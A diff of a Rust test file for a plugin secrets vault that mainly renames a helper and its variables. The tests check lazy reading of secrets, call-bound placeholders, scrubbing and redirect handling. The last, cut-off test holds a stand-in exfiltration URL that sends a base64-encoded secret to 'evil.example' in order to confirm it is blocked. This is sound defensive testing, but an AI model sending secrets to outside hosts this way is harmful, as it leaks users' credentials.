@@ -31,7 +31,7 @@ impl SecretSource for Counting {
 }
 
 /// The value of each secret is the name of its variable.
-fn grantee(source: &Arc<Counting>) -> Arc<PluginContext> {
+fn plugin_with(source: &Arc<Counting>) -> Arc<PluginContext> {
     let mut setup = setup();
     setup.facts.manifest.asks.insert("secrets".to_owned(), CapabilityRequest::default());
     let from: BTreeMap<SecretName, KeyRef> =
@@ -46,14 +46,13 @@ fn grantee(source: &Arc<Counting>) -> Arc<PluginContext> {
             places: BTreeSet::from([SecretPlace::Header, SecretPlace::Query]),
         })
         .collect();
-    let mut grantee = PluginContext::new(PluginName::from("subject"), Arc::new(setup)).unwrap();
-    grantee.vault =
-        Arc::new(Vault::new(Arc::clone(source) as Arc<dyn SecretSource>, from).unwrap());
-    Arc::new(grantee)
+    let mut plugin = PluginContext::new(PluginName::from("subject"), Arc::new(setup)).unwrap();
+    plugin.vault = Arc::new(Vault::new(Arc::clone(source) as Arc<dyn SecretSource>, from).unwrap());
+    Arc::new(plugin)
 }
 
-fn call(grantee: &Arc<PluginContext>, number: u64) -> CallSecrets {
-    CallSecrets::new(Arc::clone(grantee), None, &RoomId::from("r"), CallId(number))
+fn call(plugin: &Arc<PluginContext>, number: u64) -> CallSecrets {
+    CallSecrets::new(Arc::clone(plugin), None, &RoomId::from("r"), CallId(number))
 }
 
 fn get(url: &str, header: &str) -> RequestParts {
@@ -70,8 +69,8 @@ const HERE: &str = "https://api.example.org/";
 #[tokio::test]
 async fn a_value_is_read_at_first_use_and_once() {
     let source = Arc::new(Counting::default());
-    let grantee = grantee(&source);
-    let secrets = call(&grantee, 1);
+    let plugin = plugin_with(&source);
+    let secrets = call(&plugin, 1);
     let parts = get(HERE, &secrets.placeholder("met").unwrap());
     let plan = secrets.check(&parts).unwrap();
     assert_eq!(source.0.load(Ordering::Relaxed), 0);
@@ -82,7 +81,7 @@ async fn a_value_is_read_at_first_use_and_once() {
     assert_eq!(secrets.scrub_text("a value-of-met"), "a [secret met]");
     assert_eq!(secrets.scrub_bytes(vec![b' '; SMALL + 1]).await.len(), SMALL + 1);
     assert!(
-        !format!("{:?} {:?}", grantee.vault, parts).contains("value-of"),
+        !format!("{:?} {:?}", plugin.vault, parts).contains("value-of"),
         "neither shows a value"
     );
 }
@@ -90,17 +89,17 @@ async fn a_value_is_read_at_first_use_and_once() {
 #[tokio::test]
 async fn a_placeholder_is_worth_nothing_in_another_call_or_another_vault() {
     let source = Arc::new(Counting::default());
-    let (here, there) = (grantee(&source), grantee(&source));
-    let parts = get(HERE, &call(&here, 1).placeholder("met").unwrap());
-    assert!(call(&here, 1).check(&parts).is_ok());
-    assert!(call(&here, 2).check(&parts).is_err() && call(&there, 1).check(&parts).is_err());
+    let (first, second) = (plugin_with(&source), plugin_with(&source));
+    let parts = get(HERE, &call(&first, 1).placeholder("met").unwrap());
+    assert!(call(&first, 1).check(&parts).is_ok());
+    assert!(call(&first, 2).check(&parts).is_err() && call(&second, 1).check(&parts).is_err());
 }
 
 #[tokio::test]
 async fn without_a_value_nothing_is_sent() {
-    let grantee = grantee(&Arc::default());
+    let plugin = plugin_with(&Arc::default());
     for (name, reason) in [("none", "it is not there"), ("short", "fewer than 8 bytes")] {
-        let secrets = call(&grantee, 1);
+        let secrets = call(&plugin, 1);
         let parts = get(HERE, &secrets.placeholder(name).unwrap());
         let plan = secrets.check(&parts).unwrap();
         let record = secrets.put_in(&parts, &plan).await.unwrap_err();
@@ -110,8 +109,8 @@ async fn without_a_value_nothing_is_sent() {
 
 #[tokio::test]
 async fn what_a_redirect_leads_to_is_decided_anew() {
-    let grantee = grantee(&Arc::default());
-    let secrets = call(&grantee, 1);
+    let plugin = plugin_with(&Arc::default());
+    let secrets = call(&plugin, 1);
     let first = get(HERE, &secrets.placeholder("met").unwrap());
     let plan = secrets.check(&first).unwrap();
     secrets.put_in(&first, &plan).await.unwrap();
@@ -135,8 +134,8 @@ async fn what_a_redirect_leads_to_is_decided_anew() {
 
 #[tokio::test]
 async fn a_value_that_the_guest_wrote_itself_is_not_sent() {
-    let grantee = grantee(&Arc::default());
-    let secrets = call(&grantee, 1);
+    let plugin = plugin_with(&Arc::default());
+    let secrets = call(&plugin, 1);
     let first = get(HERE, &secrets.placeholder("met").unwrap());
     secrets.put_in(&first, &secrets.check(&first).unwrap()).await.unwrap();
     for parts in [get(HERE, "value-of-met"), get("https://evil.example/?q=dmFsdWUtb2YtbWV0", "x")] {
